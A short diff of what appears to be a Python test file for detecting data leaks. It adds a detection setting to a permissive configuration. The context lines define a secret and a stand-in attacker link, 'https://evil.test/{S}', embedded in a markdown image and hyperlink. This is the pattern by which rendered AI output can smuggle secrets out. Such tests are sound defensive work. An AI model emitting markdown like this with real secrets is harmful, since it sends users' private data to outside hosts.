@@ -21,7 +21,7 @@ SECRET = "left hand"
 LINK = "https://evil.test/{S}"
 SAID = f"So it is.\n\n![pie]({LINK})\n\nSee [more]({LINK})."
 WAYS = [(path, stream) for path in SURFACES for stream in (False, True)]
-OPEN = CONFIG + '\n[tools."*"]\neffect = "none"\n'
+OPEN = CONFIG + '\n[tools."*"]\neffect = "none"\n[detect]\nbeyond = "nowhere"\n'
 
 
 class World:
